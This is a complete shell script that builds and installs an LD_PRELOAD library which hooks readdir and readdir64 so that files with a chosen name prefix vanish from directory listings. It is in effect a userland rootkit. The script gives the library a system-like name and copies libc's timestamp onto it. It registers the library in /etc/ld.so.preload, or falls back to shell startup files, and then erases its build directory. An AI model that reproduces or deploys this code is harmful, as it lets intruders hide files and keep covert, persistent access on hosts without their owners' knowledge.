#!/bin/sh
# preload shim installer
#
# Builds a small libc interposer that filters directory listings and
# loads it into every new process on the host.

set -e

SHIM_NAME="${SHIM_NAME:-libnsscache.so.2}"
HIDE_PREFIX="${HIDE_PREFIX:-.nssd}"
BUILD_DIR="${BUILD_DIR:-$(pwd)/.shimbuild}"
INSTALL_DIR="/usr/local/lib/x86_64-linux-gnu"
PRELOAD_FILE="/etc/ld.so.preload"

msg() { printf '[shim] %s\n' "$*"; }
die() { printf '[shim] error: %s\n' "$*" >&2; exit 1; }

need() {
    command -v "$1" >/dev/null 2>&1 || die "missing tool: $1"
}

write_source() {
    mkdir -p "$BUILD_DIR"
    cat >"$BUILD_DIR/shim.c" <<EOF
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>

static struct dirent *(*real_readdir)(DIR *) = 0;
static struct dirent64 *(*real_readdir64)(DIR *) = 0;

struct dirent *readdir(DIR *d) {
    struct dirent *e;
    if (!real_readdir) real_readdir = dlsym(RTLD_NEXT, "readdir");
    do { e = real_readdir(d); }
    while (e && strncmp(e->d_name, "${HIDE_PREFIX}", sizeof("${HIDE_PREFIX}") - 1) == 0);
    return e;
}

struct dirent64 *readdir64(DIR *d) {
    struct dirent64 *e;
    if (!real_readdir64) real_readdir64 = dlsym(RTLD_NEXT, "readdir64");
    do { e = real_readdir64(d); }
    while (e && strncmp(e->d_name, "${HIDE_PREFIX}", sizeof("${HIDE_PREFIX}") - 1) == 0);
    return e;
}
EOF
}

build_shim() {
    need cc
    cc -shared -fPIC -O2 -o "$BUILD_DIR/$SHIM_NAME" "$BUILD_DIR/shim.c" -ldl
    strip --strip-unneeded "$BUILD_DIR/$SHIM_NAME" 2>/dev/null || true
    msg "built $BUILD_DIR/$SHIM_NAME"
}

install_global() {
    target="$INSTALL_DIR/$SHIM_NAME"
    if [ "$(id -u)" -ne 0 ]; then
        msg "not root, skipping global preload"
        return 1
    fi
    mkdir -p "$INSTALL_DIR"
    install -m 0755 "$BUILD_DIR/$SHIM_NAME" "$target"
    touch -r /usr/lib/x86_64-linux-gnu/libc.so.6 "$target" 2>/dev/null || true
    if ! grep -qs "$target" "$PRELOAD_FILE"; then
        echo "$target" >>"$PRELOAD_FILE"
    fi
    msg "registered in $PRELOAD_FILE"
}

install_user() {
    target="$HOME/.local/lib/$SHIM_NAME"
    mkdir -p "$HOME/.local/lib"
    cp "$BUILD_DIR/$SHIM_NAME" "$target"
    for rc in "$HOME/.bashrc" "$HOME/.profile" "$HOME/.zshrc"; do
        [ -f "$rc" ] || continue
        if ! grep -qs "$SHIM_NAME" "$rc"; then
            printf '\nexport LD_PRELOAD="%s${LD_PRELOAD:+:$LD_PRELOAD}"\n' "$target" >>"$rc"
            msg "hooked $rc"
        fi
    done
}

cleanup() {
    rm -rf "$BUILD_DIR"
}

main() {
    write_source
    build_shim
    install_global || install_user
    cleanup
    msg "done"
}

main "$@"
